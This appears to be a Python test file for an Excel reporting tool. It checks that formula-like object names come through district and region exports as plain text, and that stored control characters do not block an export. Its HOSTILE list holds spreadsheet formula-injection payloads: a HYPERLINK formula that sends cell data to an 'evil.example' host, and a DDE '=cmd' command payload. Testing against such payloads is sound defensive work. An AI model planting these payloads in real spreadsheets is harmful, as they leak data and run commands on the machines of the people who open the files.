"""Text stays text in every workbook, and a stored control character never blocks an export
(reporting.md §2.3, issue 9): district export -> verify -> region consolidate -> region export.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import openpyxl
import pytest

import main
from models.objects.tables import InfraObject
from models.store.db import Store
from tests.models.consolidation_builders import (
    DISTRICT_A,
    PASSPORTED_ON,
    REGION,
    add_objects,
)
from tests.models.report_builders import add_object, add_passport
from tests.store_templates import new_store

#: Names as typed or imported: every formula-like prefix, and an Excel error code.
HOSTILE = [
    "=1+1",
    "+7 701 000 00 00",
    "-1",
    "@SUM(A1:A2)",
    '=HYPERLINK("http://evil.example/?d="&A1,"Мектеп")',
    "=cmd|' /C calc'!A0",
    "#N/A",
    " =1+1",
]


def district_with_names(path: Path, names: list[str]) -> Store:
    store = new_store(path, DISTRICT_A, "admin")
    with store.session("admin") as s:
        add_objects(s, "113220100", passported=2, requiring=1, adapted=0)
        for name in names:
            o = add_object(s, name, kato="113220100")
            o.address = name  # the address typed the same way
            add_passport(s, o, 1, PASSPORTED_ON, requires=False, adapted=None)
    return store


def workbook_of(manifest: Path) -> Path:
    data = json.loads(manifest.read_text(encoding="utf-8"))
    return manifest.parent / data["workbook"]["file"]


def assert_no_formula(workbook: Path) -> None:
    with zipfile.ZipFile(workbook) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
                assert 't="e"' not in xml, name


def texts_in(workbook: Path) -> set[str]:
    wb = openpyxl.load_workbook(workbook, read_only=True)
    try:
        found: set[str] = set()
        for ws in wb.worksheets:
            for row in ws.iter_rows(values_only=True):
                found.update(v for v in row if isinstance(v, str))
        return found
    finally:
        wb.close()


def export(db: Path, out: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    out.mkdir(parents=True, exist_ok=True)
    # A region consolidates approved packages only (reporting.md §6.2).
    main.main(["approve", "--db", str(db), "--period", "2026-H1"])
    capsys.readouterr()
    code = main.main(["export", "--db", str(db), "--period", "2026-H1", "--out", str(out)])
    out_text, err = capsys.readouterr()
    assert code == 0, err
    assert "Traceback" not in err
    return Path(out_text.strip().splitlines()[-1])


def test_formula_like_names_arrive_as_text_through_the_region(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    district = district_with_names(tmp_path / "district.sqlite", HOSTILE)
    district.close()
    manifest = export(tmp_path / "district.sqlite", tmp_path / "usb", capsys)
    assert_no_formula(workbook_of(manifest))
    assert set(HOSTILE) <= texts_in(workbook_of(manifest))

    assert main.main(["verify", str(manifest)]) == 0, capsys.readouterr().err

    region = new_store(tmp_path / "region.sqlite", REGION, "admin")
    region.close()
    assert main.main(["consolidate", "--db", str(tmp_path / "region.sqlite"), str(manifest)]) == 0
    up = export(tmp_path / "region.sqlite", tmp_path / "up", capsys)
    assert_no_formula(workbook_of(up))
    # The receiver trims the spaces around a name, nothing else.
    assert {n.strip() for n in HOSTILE} <= texts_in(workbook_of(up))


def test_a_stored_control_character_does_not_block_the_export(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Stored by an older version, before names were checked at entry.
    store = district_with_names(tmp_path / "district.sqlite", ["Мектеп\x00 №1", "Емхана\x01\x1f"])
    with store.session("admin") as s:
        o = s.query(InfraObject).filter(InfraObject.name == "Мектеп\x00 №1").one()
        o.address = "Абай көшесі\x0b 5"
    store.close()
    manifest = export(tmp_path / "district.sqlite", tmp_path / "usb", capsys)
    texts = texts_in(workbook_of(manifest))
    assert {"Мектеп №1", "Емхана", "Абай көшесі 5"} <= texts
    assert main.main(["verify", str(manifest)]) == 0
